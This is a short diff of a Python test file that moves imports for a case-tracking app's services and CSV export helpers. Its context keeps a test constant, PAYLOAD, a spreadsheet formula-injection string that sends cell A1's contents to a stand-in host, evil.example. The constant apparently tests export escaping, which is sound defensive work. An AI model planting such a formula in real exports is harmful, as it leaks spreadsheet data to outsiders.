@@ -7,9 +7,9 @@ import io
 
 from tests.cases.builders import NOW, make_case
 from tests.factories import make_user
-from tip_cases import services as svc
-from tip_cases.exports import _cell, records_csv
+from tip_cases.cases import services as svc
 from tip_cases.extensions import db
+from tip_cases.reports.exports import _cell, records_csv
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
 
